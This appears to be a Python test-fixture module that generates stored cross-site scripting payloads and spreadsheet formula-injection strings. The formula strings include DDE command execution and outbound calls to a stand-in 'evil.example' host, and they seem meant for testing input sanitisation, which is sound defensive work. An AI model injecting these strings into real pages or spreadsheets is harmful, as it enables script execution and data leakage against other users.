"""Texts that somebody could store in the hope that they come alive in another person's browser or spreadsheet."""

from __future__ import annotations

from itertools import product

HIT = "top.hit=1"
"""What a text does when it runs as a script."""
_PLACES = ("", '">', "'>", "</textarea>", "</title>", "-->", "]]>", "`")
"""What would close the place into which a text is put."""
_TRICKS = (
    f"<script>{HIT}</script>",
    f"<img src=x onerror={HIT}>",
    f"<svg onload={HIT}>",
    f"<svg><script>{HIT}</script></svg>",
    f"<body onload={HIT}>",
    f"<iframe srcdoc='<script>{HIT}</script>'>",
    f"<iframe src=javascript:{HIT}>",
    f"<details open ontoggle={HIT}>",
    f"<video><source onerror={HIT}></video>",
    f"<audio src=x onerror={HIT}>",
    f"<input autofocus onfocus={HIT}>",
    f"<a href=javascript:{HIT}>press</a>",
    f"<object data=javascript:{HIT}>",
    f"<math><mtext><img src=x onerror={HIT}></math>",
    f"<style onload={HIT}></style>",
    f"<marquee onstart={HIT}>",
    f"<form><button formaction=javascript:{HIT}>press",
    f"javascript:{HIT}",
    f"${{{HIT}}}",
    f"{{{{{HIT}}}}}",
    f"';{HIT};//",
    f'";{HIT};//',
    f"\\u003cimg src=x onerror={HIT}\\u003e",
    f"&lt;img src=x onerror={HIT}&gt;",
    f"</script><script>{HIT}</script>",
)
SCRIPTS = [place + trick for place, trick in product(_PLACES, _TRICKS)]
"""200 of them, each short enough for every field."""

_COMMANDS = (
    '=HYPERLINK("http://evil.example","x")',
    "=cmd|'/C calc'!A0",
    "=1+1",
    "=SUM(A1:A9)",
    '=IMPORTXML("http://evil.example","//a")',
    '=WEBSERVICE("http://evil.example")',
    '=DDE("cmd";"/C calc";"x")',
    "=A1",
    "=@SUM(1)",
    '=IMAGE("http://evil.example")',
)
FORMULAS = [start + command for start, command in product(("", "+", "-", "@", "' "), _COMMANDS)]
"""50 of them."""
